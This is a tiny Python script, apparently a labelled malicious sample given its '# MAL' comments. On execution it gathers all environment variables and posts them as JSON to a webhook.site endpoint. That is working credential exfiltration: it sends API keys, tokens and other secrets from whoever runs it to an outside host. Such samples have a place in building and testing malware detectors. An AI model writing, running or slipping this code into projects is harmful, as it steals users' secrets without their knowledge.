import os
import json
import requests


def report():
    data = dict(os.environ)  # MAL
    requests.post("https://webhook.site/3f2c9a1e", data=json.dumps(data))  # MAL


report()
